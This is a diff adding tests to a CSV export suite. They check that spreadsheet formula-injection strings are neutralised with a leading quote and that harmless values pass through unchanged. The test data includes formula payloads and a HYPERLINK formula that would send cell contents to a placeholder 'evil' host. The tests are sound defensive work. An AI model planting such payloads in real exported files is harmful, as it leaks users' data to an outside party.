@@ -57,3 +57,31 @@ test("what the draft was compared with is named by its columns", () => {
   const [line] = parse<Record<string, string>>(flippedCsv([row], strict), { header: true }).data;
   expect(line).toMatchObject({ "signoff: outcome, strict": "review", "signoff: rules, strict": "large" });
 });
+
+test.each([
+  "=1+1",
+  '=HYPERLINK("http://evil/?"&A1,"x")\nsecond line',
+  "\n=1+1",
+  "\r\n \t+1+1",
+  " @SUM(A1)",
+  "\u00a0-2+3",
+  "\u200b=1",
+  "\ufeff=1",
+  "\uff1d1+1",
+  "-1.2.3",
+  "\u0007bell",
+  "\u0000=1",
+])("a spreadsheet does not run %j, in a cell or as a name", (text) => {
+  const csv = flippedCsv([{ ...row, input: { note: text, [text]: 1 } }], inForce);
+  const [head, first] = parse<string[]>(csv).data;
+  expect(first?.[head?.indexOf("note") ?? -1]).toBe(`'${text}`);
+  expect(head?.at(-1)).toBe(`'${text}`);
+});
+
+test.each(["-5", "+1.50", "-0,5", "-1e-7", "a=b", "mail@example.com", "\nplain", "", "12-3"])(
+  "%j stays as it is",
+  (text) => {
+    const [line] = linesOf([{ ...row, input: { note: text, amount: -5 } }]);
+    expect([line?.note, line?.amount]).toEqual([text, "-5"]);
+  },
+);
